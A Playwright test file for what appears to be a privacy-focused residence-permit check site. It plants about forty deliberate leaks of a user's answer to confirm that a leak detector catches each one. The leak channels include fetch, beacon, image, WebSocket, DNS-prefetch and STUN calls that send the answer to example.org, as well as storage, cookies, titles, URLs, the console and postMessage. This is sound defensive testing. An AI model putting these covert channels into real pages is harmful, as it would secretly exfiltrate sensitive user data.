import { expect } from '@playwright/test';
import { marksOf } from './net/marks';
import { caught, test } from './net/net';

// Leaks that are put into the page on purpose, each in a way that is known: the net of `leak.spec.ts` must catch every one, or it catches nothing.

const ANSWER = 'persecution';
const marks = marksOf({ asylumGrounds: [ANSWER], permitSince: '1987-03-17' });
// The copy for use without internet is made only where it matters: it is a hundred files.
const options = { marks, neverKept: marks, said: /^Service Worker registration blocked by Playwright$/ };

/** What a faulty page could do with an answer. Runs in the page. */
const WAYS: Readonly<Record<string, { readonly kind: string; readonly leak: (answer: string) => unknown }>> = {
  'a request with a query': { kind: 'request', leak: (answer) => fetch(`/mark.svg?a=${answer}`) },
  'a request for another path': { kind: 'request', leak: (answer) => fetch(`/mark.svg/${btoa(answer).slice(2)}`) },
  'a request with a body': { kind: 'request', leak: (answer) => fetch('/mark.svg', { method: 'POST', body: answer }) },
  'a request with a header': { kind: 'request', leak: (answer) => fetch('/mark.svg', { headers: { 'X-Said': answer.split('').reverse().join('') } }) },
  'a request in the old way': { kind: 'request', leak: (answer) => { const one = new XMLHttpRequest(); one.open('PUT', '/mark.svg'); one.send(answer); } },
  'the address of the page before': { kind: 'request', leak: (answer) => { history.replaceState(history.state, '', `?a=${answer}`); return fetch('/mark.svg', { referrerPolicy: 'unsafe-url' }); } },
  'a request to elsewhere, which the policy stops': { kind: 'violation', leak: (answer) => fetch(`https://example.org/?a=${answer}`).catch(() => {}) },
  'a beacon': { kind: 'beacon', leak: (answer) => navigator.sendBeacon('/mark.svg', answer) },
  'a picture': { kind: 'request', leak: (answer) => { new Image().src = `/mark.svg?${answer}`; } },
  'a picture of elsewhere': { kind: 'violation', leak: (answer) => { new Image().src = `https://example.org/${answer}.png`; } },
  // Trusted Types stop it before a request is made.
  'a script': { kind: 'violation', leak: (answer) => { document.head.append(Object.assign(document.createElement('script'), { type: 'module', src: `/mark.svg?${answer}` })); } },
  'a lookup of a name': { kind: 'element', leak: (answer) => { document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: `https://${answer}.example.org` })); } },
  'a link that tells when it is followed': { kind: 'element', leak: (answer) => { const link = document.createElement('a'); link.setAttribute('ping', `/${answer}`); document.body.append(link); } },
  'a form': { kind: 'violation', leak: (answer) => { const form = Object.assign(document.createElement('form'), { action: `/${answer}`, method: 'get' }); document.body.append(form); form.submit(); } },
  'a socket': { kind: 'socket', leak: (answer) => { try { new WebSocket(`wss://example.org/${answer}`); } catch { /* the policy */ } } },
  'a call to another device': { kind: 'rtc', leak: (answer) => { new RTCPeerConnection({ iceServers: [{ urls: `stun:${answer}.example.org` }] }); } },
  'events of a server': { kind: 'events', leak: (answer) => { new EventSource(`/mark.svg?${answer}`); } },
  'another window': { kind: 'open', leak: (answer) => { window.open(`/nl/?${answer}`); } },
  'the title': { kind: 'title', leak: (answer) => { document.title = `Check – ${answer}`; } },
  'a day in the title, in other digits': { kind: 'title', leak: () => { document.title = '١٧ مارس ١٩٨٧'; } },
  'the address': { kind: 'url', leak: (answer) => { history.replaceState(history.state, '', `?goal=${answer}`); } },
  'the part of the address behind #': { kind: 'url', leak: (answer) => { location.hash = `q=asylumGrounds&a=${answer}`; } },
  'a link with answers that nobody asked for': { kind: 'url', leak: () => { history.pushState({ depth: 1 }, '', '#s=1.W10'); } },
  'the state of the history': { kind: 'state', leak: (answer) => { history.replaceState({ depth: 1, answer }, ''); } },
  'the name of the window': { kind: 'name', leak: (answer) => { window.name = answer; } },
  'a store that lasts': { kind: 'localStorage', leak: (answer) => { localStorage['permit-path-saved'] = answer; } },
  'a store that is emptied again': { kind: 'localStorage', leak: (answer) => { localStorage.setItem('x', answer); localStorage.removeItem('x'); } },
  'another name in the store of the tab': { kind: 'sessionStorage', leak: (answer) => { sessionStorage.setItem('last', answer); } },
  'a reason in the memory of the tab': { kind: 'sessionStorage', leak: (answer) => { sessionStorage.setItem('permit-path', JSON.stringify({ v: 1, answers: { asylumGrounds: [answer] } })); } },
  'a cookie': { kind: 'cookie', leak: (answer) => { document.cookie = `a=${answer}`; } },
  'a database': { kind: 'database', leak: (answer) => { indexedDB.open(answer); } },
  'a copy of a page': { kind: 'copy', leak: async (answer) => (await caches.open(`permit-path-copy ${location.origin}/`)).put(`/nl/check/?${answer}`, new Response('')) },
  'a copy under another name': { kind: 'cacheName', leak: (answer) => caches.open(answer) },
  'the console': { kind: 'console', leak: (answer) => { console.debug(answer); } },
  'an error': { kind: 'error', leak: (answer) => { setTimeout(() => { throw new Error(answer); }); } },
  'a word to other tabs': { kind: 'post', leak: (answer) => { new BroadcastChannel('permit-path').postMessage(answer); } },
  'a word to the worker': { kind: 'post', leak: async (answer) => (await navigator.serviceWorker.ready).active?.postMessage({ keep: answer }) },
  'a word to the page around': { kind: 'message', leak: (answer) => { parent.postMessage({ permitPath: 1, moment: 'finished', answer }, '*'); } },
};

for (const [what, { kind, leak }] of Object.entries(WAYS)) {
  test(`is caught: ${what}`, async ({ openNet }) => {
    const worker = what.endsWith('the worker');
    const { net, page } = await openNet({ worker });
    // In the check the worker waits for the first answer.
    await page.goto(worker ? './nl/' : './nl/check/');
    if (worker) await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
    expect(net.leaks(options)).toEqual([]);
    await page.evaluate(leak, ANSWER).catch(() => undefined);
    await expect.poll(async () => {
      await net.look(page);
      return net.leaks(options).map((one) => one.kind);
    }).toContain(kind);
    caught.planted += 1;
  });
}
